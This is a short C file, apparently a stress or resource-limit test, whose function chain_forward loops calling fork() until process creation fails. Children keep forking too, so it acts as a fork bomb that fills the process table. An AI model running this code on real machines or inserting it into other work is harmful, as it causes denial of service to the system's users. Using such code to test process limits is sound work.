/* Tries to fill the machine with processes. */
#include <unistd.h>
int chain_forward(void);
int
chain_forward(void)
{
    for (;;)
        if (fork() < 0)
            return 0;
}
